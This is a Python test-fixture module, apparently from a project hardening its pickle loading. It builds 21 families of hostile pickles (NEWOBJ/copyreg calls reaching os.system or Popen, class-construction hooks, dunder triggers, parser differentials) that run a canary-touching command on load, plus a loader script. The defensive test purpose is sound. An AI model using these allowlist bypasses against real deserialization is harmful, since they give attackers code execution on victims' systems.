"""Hostile pickles, round two (issue 13): the families that slipped past round one.

Each builder takes a canary path and returns pickle bytes that, when loaded
with plain ``pickle.loads`` (what the rebuild child's ``cloudpickle.loads``
does), create that canary file.  Building them runs nothing: hooks that a
class definition itself would trigger (``__init_subclass__``, ``__hash__`` of a
dict key, an enum member's ``__init__``, ABC ``register``) are *armed* through
a closure cell that is False while the payload is built and True in the bytes.
``test_round_two_controls`` proves every one really runs when loaded.

Families: NEWOBJ / NEWOBJ_EX / copyreg of classes off the allowlist,
BUILD reaching ``__setstate__``, hooks run while a class is built
(``__init_subclass__``, ABC register -> ``__subclasshook__``, ``__set_name__``,
``__mro_entries__``, enum member ``__init__``), dunders reached through
allowlisted calls (``str``, ``int``, ``getattr``, ``OrderedDict``, SETITEM
hashing a key, ``typing.Optional[...]``, ``re._compile``), and parser
differentials (``I0x1``, ``L0o7L``) that pickletools rejects but the C
unpickler accepts.
"""

from __future__ import annotations

import builtins
import collections
import copyreg
import enum
import io
import operator
import pickle
import re
import struct
import subprocess
import typing
from collections.abc import Callable
from pathlib import Path
from typing import Any

import cloudpickle

from tests.reliability.hostile import _Reduce

PROTO2, PROTO4, STOP, REDUCE, TUPLE1, TUPLE2 = b"\x80\x02", b"\x80\x04", b".", b"R", b"\x85", b"\x86"
EMPTY_LIST, APPEND, NEWOBJ, NEWOBJ_EX, EMPTY_DICT = b"]", b"a", b"\x81", b"\x92", b"}"
MARK, TUPLE, POP = b"(", b"t", b"0"


def _glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _str(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _cmd(canary: Path) -> str:
    return f"touch '{canary}'"


def _armed_namespace(canary: Path) -> dict[str, Any]:
    """A namespace for by-value classes: ``fire()`` touches the canary once armed."""
    ns: dict[str, Any] = {"__name__": "pb_hostile_round_two"}
    src = (
        "import os\n"
        "def _make(path):\n"
        "    armed = [False]\n"
        "    def fire(*args, **kwargs):\n"
        "        if armed[0]:\n"
        "            open(path, 'w').close()\n"
        "        return 0\n"
        "    return armed, fire\n"
    )
    exec(src, ns)  # noqa: S102 - by-value helpers, no importable module
    armed, fire = ns["_make"](str(canary))
    ns["armed"], ns["fire"] = armed, fire
    return ns


def _dump(obj: Any, ns: dict[str, Any]) -> bytes:
    ns["armed"][0] = True  # the cell's value is pickled: the loaded copy is armed
    try:
        return cloudpickle.dumps(obj, protocol=5)
    finally:
        ns["armed"][0] = False


def _evil_instance(ns: dict[str, Any], body: str) -> Any:
    exec(f"class Evil:\n{body}\n", ns)  # noqa: S102
    return ns["Evil"].__new__(ns["Evil"])


# -- NEWOBJ / copyreg of classes off the allowlist ---------------------------------
def newobj_map_in_list(c: Path) -> bytes:
    """``list(map.__new__(map, os.system, [cmd]))``: the map is built by NEWOBJ, list iterates it."""
    args = _glob("os", "system") + EMPTY_LIST + _str(_cmd(c)) + APPEND + TUPLE2
    return (
        PROTO2 + _glob("builtins", "list") + _glob("builtins", "map") + args + NEWOBJ
        + TUPLE1 + REDUCE + STOP
    )  # fmt: skip


def newobj_ex_filter_in_tuple(c: Path) -> bytes:
    args = _glob("os", "system") + EMPTY_LIST + _str(_cmd(c)) + APPEND + TUPLE2
    return (
        PROTO4 + _glob("builtins", "tuple") + _glob("builtins", "filter") + args + EMPTY_DICT
        + NEWOBJ_EX + TUPLE1 + REDUCE + STOP
    )  # fmt: skip


def copyreg_newobj_map_in_set(c: Path) -> bytes:
    args = _glob("builtins", "map") + _glob("os", "system") + EMPTY_LIST + _str(_cmd(c)) + APPEND
    inner = _glob("copyreg", "__newobj__") + args + b"\x87" + REDUCE  # TUPLE3
    return PROTO2 + _glob("builtins", "set") + inner + TUPLE1 + REDUCE + STOP


def copyreg_reconstructor_popen(c: Path) -> bytes:
    """``copyreg._reconstructor(Popen, Popen, argv)``: ``Popen.__init__(obj, argv)`` runs it."""
    return pickle.dumps(
        _Reduce(copyreg._reconstructor, (subprocess.Popen, subprocess.Popen, ["touch", str(c)])),
        protocol=2,
    )


# -- BUILD reaching __setstate__ ------------------------------------------------------
def class_attr_with_setstate(c: Path) -> bytes:
    """A plain-looking class whose attribute is an instance of a by-value class with
    ``__setstate__``: the one loaded by NEWOBJ + BUILD."""
    ns = _armed_namespace(c)
    exec(  # noqa: S102
        "class Settings:\n"
        "    def __setstate__(self, state):\n"
        "        fire()\n"
        "        self.__dict__.update(state)\n"
        "class Victim:\n"
        "    def predict(self, x):\n"
        "        return x\n",
        ns,
    )
    settings = ns["Settings"]()
    settings.level = 3
    ns["Victim"].settings = settings
    return _dump(ns["Victim"], ns)


# -- hooks that run while a class is built --------------------------------------------
def init_subclass_of_base(c: Path) -> bytes:
    ns = _armed_namespace(c)
    exec(  # noqa: S102
        "class Base:\n"
        "    def __init_subclass__(cls, **kw):\n"
        "        fire()\n"
        "class Victim(Base):\n"
        "    def predict(self, x):\n"
        "        return x\n",
        ns,
    )
    return _dump(ns["Victim"], ns)


def abc_register_subclasshook(c: Path) -> bytes:
    ns = _armed_namespace(c)
    exec(  # noqa: S102
        "import abc\n"
        "class Victim(abc.ABC):\n"
        "    @classmethod\n"
        "    def __subclasshook__(cls, other):\n"
        "        fire()\n"
        "        return NotImplemented\n"
        "    def predict(self, x):\n"
        "        return x\n"
        "Victim.register(int)\n",
        ns,
    )
    return _dump(ns["Victim"], ns)


class _SkeletonPickler(cloudpickle.Pickler):
    """cloudpickle, except that ``Victim`` is rebuilt from crafted skeleton arguments."""

    def __init__(self, file: Any, victim: type, args: tuple[Any, ...]) -> None:
        super().__init__(file, protocol=5)
        self._victim, self._args = victim, args

    def reducer_override(self, obj: Any) -> Any:
        if obj is self._victim:
            return (cloudpickle.cloudpickle._make_skeleton_class, self._args)
        return super().reducer_override(obj)


def _crafted_skeleton(ns: dict[str, Any], victim: type, args: tuple[Any, ...]) -> bytes:
    buf = io.BytesIO()
    ns["armed"][0] = True
    try:
        _SkeletonPickler(buf, victim, args).dump(victim)
    finally:
        ns["armed"][0] = False
    return buf.getvalue()


def set_name_in_namespace(c: Path) -> bytes:
    """A class created with a value whose ``__set_name__`` runs (type_kwargs of the skeleton)."""
    ns = _armed_namespace(c)
    hook = _evil_instance(ns, "    def __set_name__(self, owner, name):\n        fire()\n")
    exec("class Victim:\n    pass\n", ns)  # noqa: S102
    return _crafted_skeleton(
        ns, ns["Victim"], (type, "Victim", (), {"__module__": "m", "slot": hook}, None, None)
    )


def mro_entries_base(c: Path) -> bytes:
    ns = _armed_namespace(c)
    hook = _evil_instance(ns, "    def __mro_entries__(self, bases):\n        fire()\n        return ()\n")
    exec("class Victim:\n    pass\n", ns)  # noqa: S102
    return _crafted_skeleton(
        ns, ns["Victim"], (type, "Victim", (hook,), {"__module__": "m"}, None, None)
    )


def enum_member_init(c: Path) -> bytes:
    ns = _armed_namespace(c)
    exec(  # noqa: S102
        "import enum\n"
        "class Mixin:\n"
        "    def __init__(self, *args):\n"
        "        fire()\n"
        "class Victim(Mixin, enum.Enum):\n"
        "    A = 1\n",
        ns,
    )
    return _dump(ns["Victim"], ns)


def enum_metaclass_skeleton(c: Path) -> bytes:
    """``_make_skeleton_class(EnumMeta, ...)``: the enum metaclass builds members from the namespace."""
    ns = _armed_namespace(c)
    exec(  # noqa: S102
        "import enum\n"
        "class Mixin:\n"
        "    def __init__(self, *args):\n"
        "        fire()\n"
        "class Victim:\n"
        "    pass\n",
        ns,
    )
    mixin = ns["Mixin"]
    # EnumMeta.__prepare__ is skipped by types.new_class's exec_body: members need
    # _EnumDict, so go through a prepared namespace the way the enum would.
    kwargs = {"__module__": "m", "A": 1}
    return _crafted_skeleton(
        ns, ns["Victim"], (enum.EnumMeta, "Victim", (mixin, enum.Enum), kwargs, None, None)
    )


# -- dunders reached through allowlisted calls ------------------------------------------
def _victim_with(ns: dict[str, Any], value: Any) -> bytes:
    exec("class Victim:\n    def predict(self, x):\n        return x\n", ns)  # noqa: S102
    ns["Victim"].attr = value
    return _dump(ns["Victim"], ns)


def str_of_instance(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(ns, "    def __str__(self):\n        fire()\n        return 'x'\n")
    return _victim_with(ns, _Reduce(builtins.str, (evil,)))


def int_of_instance(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(ns, "    def __index__(self):\n        fire()\n        return 1\n"
                              "    def __int__(self):\n        fire()\n        return 1\n")
    return _victim_with(ns, _Reduce(builtins.int, (evil,)))


def getattr_of_instance(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(ns, "    def __getattr__(self, name):\n        fire()\n        return 1\n")
    return _victim_with(ns, _Reduce(builtins.getattr, (evil, "anything")))


def ordereddict_of_instance(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(
        ns,
        "    def keys(self):\n        fire()\n        return []\n"
        "    def __iter__(self):\n        fire()\n        return iter(())\n",
    )
    return _victim_with(ns, _Reduce(collections.OrderedDict, (evil,)))


def setitem_hashes_a_key(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(ns, "    def __hash__(self):\n        fire()\n        return 1\n")
    return _victim_with(ns, {evil: 1})


def typing_optional_of_instance(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(
        ns,
        "    def __hash__(self):\n        fire()\n        return 1\n"
        "    def __eq__(self, other):\n        fire()\n        return False\n"
        "    def __call__(self):\n        return None\n",
    )
    return _victim_with(ns, _Reduce(operator.getitem, (typing.Optional, evil)))


def re_compile_of_instance(c: Path) -> bytes:
    ns = _armed_namespace(c)
    evil = _evil_instance(ns, "    def __hash__(self):\n        fire()\n        return 1\n")
    return _victim_with(ns, _Reduce(re._compile, (evil, 0)))


# -- parser differentials -----------------------------------------------------------------
def int_hex_differential(c: Path) -> bytes:
    """``I0x1``: pickletools stops with an error, the C unpickler reads 1 and goes on."""
    call = _glob("os", "system") + MARK + _str(_cmd(c)) + TUPLE + REDUCE
    return PROTO2 + b"I0x1\n" + POP + call + STOP


def long_octal_differential(c: Path) -> bytes:
    call = _glob("os", "system") + MARK + _str(_cmd(c)) + TUPLE + REDUCE
    return PROTO2 + b"L0o7L\n" + POP + call + STOP


def wrapped_init_subclass(c: Path) -> bytes:
    """LabChain's persist_class form (a pickled ``bytes``) around a hostile class pickle."""
    return pickle.dumps(init_subclass_of_base(c), protocol=4)


#: name -> builder(canary_path) -> pickle bytes
ROUND_TWO: dict[str, Callable[[Path], bytes]] = {
    f.__name__: f
    for f in (
        newobj_map_in_list,
        newobj_ex_filter_in_tuple,
        copyreg_newobj_map_in_set,
        copyreg_reconstructor_popen,
        class_attr_with_setstate,
        init_subclass_of_base,
        abc_register_subclasshook,
        set_name_in_namespace,
        mro_entries_base,
        enum_member_init,
        enum_metaclass_skeleton,
        str_of_instance,
        int_of_instance,
        getattr_of_instance,
        ordereddict_of_instance,
        setitem_hashes_a_key,
        typing_optional_of_instance,
        re_compile_of_instance,
        int_hex_differential,
        long_octal_differential,
        wrapped_init_subclass,
    )
}

#: Loads each file named on the command line the way the rebuild child and
#: LabChain do (an outer bytes pickle is unwrapped first); errors are ignored.
LOADER = (
    "import pickle, sys\n"
    "for p in sys.argv[1:]:\n"
    "    try:\n"
    "        obj = pickle.loads(open(p, 'rb').read())\n"
    "        if isinstance(obj, bytes):\n"
    "            pickle.loads(obj)\n"
    "    except Exception:\n"
    "        pass\n"
)
